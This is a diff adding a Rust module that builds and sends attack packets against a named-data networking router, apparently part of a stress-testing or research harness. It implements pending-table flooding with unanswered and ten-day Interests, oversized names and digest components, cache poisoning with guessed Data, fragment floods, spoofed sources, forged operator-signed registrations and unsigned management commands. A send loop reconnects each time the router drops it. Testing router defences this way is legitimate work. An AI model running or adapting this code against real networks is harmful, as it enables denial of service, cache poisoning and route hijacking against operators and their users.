@@ -1,0 +1,149 @@
+//! Attacks by packets: each is a rule that makes the packet of a number.
+
+use std::fs;
+
+use namehop_wire::Name;
+use namehop_wire::security::{DigestSigner, KeySigner, KeyType, PrivateKey};
+use namehop_wire::tlv::types;
+
+use super::options::{Failure, Options};
+use super::packets::{Extras, data, first_fragment, interest, numbered, registration};
+use super::senders::{Batch, Sender};
+
+/// The longest lifetime that routers allow.
+const TEN_DAYS_MS: u64 = 864_000_000;
+/// Depths at which Interests with digests are sent.
+const DIGEST_DEPTHS: u64 = 29;
+/// Forwarding hints of one name.
+const HINTS: u64 = 8;
+/// Signed commands made in advance; then they are sent again.
+const COMMANDS: usize = 4096;
+
+type Maker = Box<dyn FnMut(u64) -> Vec<u8>>;
+
+fn name(text: &str) -> Result<Name, Failure> {
+    Ok(text.parse()?)
+}
+
+fn with_lifetime(lifetime_ms: u64) -> Extras {
+    Extras { lifetime_ms: Some(lifetime_ms), hint: None }
+}
+
+/// Interests that a silent application gets and never answers.
+fn unanswered() -> Result<Maker, Failure> {
+    let (prefix, extras) = (name("/silent/u")?, with_lifetime(60_000));
+    Ok(Box::new(move |number| interest(numbered(&prefix, number).value(), &extras)))
+}
+
+/// Lifetimes of ten days; one of two Interests is answered.
+fn endless_lifetimes() -> Result<Maker, Failure> {
+    let (prefixes, extras) = ([name("/open/endless")?, name("/silent/endless")?], with_lifetime(TEN_DAYS_MS));
+    Ok(Box::new(move |number| interest(numbered(&prefixes[(number % 2) as usize], number).value(), &extras)))
+}
+
+/// Names that are as long or as deep as can be, and longer and deeper.
+fn long_names() -> Result<Maker, Failure> {
+    let mut names = Vec::new();
+    for (components, bytes) in [(1, 1900), (60, 4), (8, 230), (16, 100), (1, 8000), (100, 10)] {
+        let component = vec![b'x'; bytes];
+        names.push((0..components).fold(name("/silent/long")?, |name, _| name.append_generic(&component)));
+    }
+    Ok(Box::new(move |number| {
+        let prefix = &names[(number % names.len() as u64) as usize];
+        interest(numbered(prefix, number).value(), &with_lifetime(4000))
+    }))
+}
+
+/// All hints that the router can follow, for the names that the victim will ask for.
+fn hint_variants(victim: Name) -> Result<Maker, Failure> {
+    let hint = name("/silent/hint")?;
+    Ok(Box::new(move |number| {
+        let hint = Some(numbered(&hint, number % HINTS));
+        interest(numbered(&victim, number / HINTS % 20_000).value(), &Extras { lifetime_ms: Some(TEN_DAYS_MS), hint })
+    }))
+}
+
+/// An Interest with an implicit digest at every depth, never answered.
+fn digests() -> Result<Maker, Failure> {
+    Ok(Box::new(move |number| {
+        let depth = 1 + number % DIGEST_DEPTHS;
+        let mut name = Name::default().append_generic("silent");
+        for _ in 1..depth {
+            name = name.append_generic("d");
+        }
+        let mut value = name.value().to_vec();
+        value.extend([types::IMPLICIT_SHA256_DIGEST_COMPONENT as u8, 32]);
+        value.extend([number as u8; 32]);
+        interest(&value, &with_lifetime(TEN_DAYS_MS))
+    }))
+}
+
+/// Data for names that the victim will ask for, before the producer answers.
+fn guessed_data(victim: Name) -> Maker {
+    Box::new(move |number| data(numbered(&victim, number % 20_000).value(), b"evil"))
+}
+
+/// Registrations that claim to be signed by the operator.
+fn signed_registrations(certificate: &str, face: Option<u64>) -> Result<Maker, Failure> {
+    let operator: Name = fs::read_to_string(certificate)?.trim().parse()?;
+    let signer = KeySigner::new(PrivateKey::generate(KeyType::Ecdsa)?, operator);
+    let commands = (0..COMMANDS).map(|number| {
+        let prefix = Name::default().append_generic("attacker").append_generic(format!("signed{number}"));
+        registration("localhop", &prefix, face, &signer)
+    });
+    let commands = commands.collect::<Result<Vec<_>, _>>()?;
+    Ok(Box::new(move |number| commands[number as usize % COMMANDS].clone()))
+}
+
+/// Commands that anybody can make, in both zones.
+fn stranger_commands(face: Option<u64>) -> Result<Maker, Failure> {
+    let prefix = name("/attacker/command")?;
+    let zones = [("localhost", face), ("localhop", face), ("localhop", None)];
+    let commands = zones.map(|(zone, face)| registration(zone, &prefix, face, &DigestSigner));
+    let commands = commands.into_iter().collect::<Result<Vec<_>, _>>()?;
+    Ok(Box::new(move |number| commands[number as usize % commands.len()].clone()))
+}
+
+/// Runs one of them. `via` says over what, `rate` how many packets a second.
+pub fn run(attack: &str, options: &Options) -> Result<String, Failure> {
+    let victim = |key: &str| name(options.text(key)?);
+    let mut make: Maker = match attack {
+        "unanswered" => unanswered()?,
+        "endless-lifetimes" => endless_lifetimes()?,
+        "long-names" => long_names()?,
+        "hint-variants" => hint_variants(victim("victim")?)?,
+        "digests" => digests()?,
+        "guessed-data" => guessed_data(victim("victim")?),
+        "first-fragments" => Box::new(|number| first_fragment(number.wrapping_mul(7919), &[6; 1000])),
+        "spoofed-sources" => {
+            let prefix = name("/nowhere")?;
+            Box::new(move |number| interest(numbered(&prefix, number).value(), &Extras::default()))
+        }
+        "signed-registrations" => signed_registrations(options.text("locator")?, Some(options.get("face")?))?,
+        "stranger-commands" => stranger_commands(Some(options.get("face")?))?,
+        other => return Err(format!("there is no attack '{other}'").into()),
+    };
+    let mut sender = Sender::open(options)?;
+    let mut pace = options.pace()?;
+    let (mut batch, mut number, mut sent, mut closed) = (Batch::default(), 0_u64, 0, 0);
+    while let Some(due) = pace.next() {
+        for _ in 0..due {
+            batch.push(&make(number));
+            number += 1;
+        }
+        match sender.send(&mut batch) {
+            Ok(count) => sent += count,
+            Err(_) => {
+                // The router has closed the connection, as it may. The attacker comes back.
+                closed += 1;
+                batch = Batch::default();
+                std::thread::sleep(std::time::Duration::from_millis(50).min(pace.left()));
+                if let Ok(again) = Sender::open(options) {
+                    sender = again;
+                }
+            }
+        }
+    }
+    sender.finish();
+    Ok(format!("{{\"packets\": {sent}, \"closed\": {closed}}}"))
+}
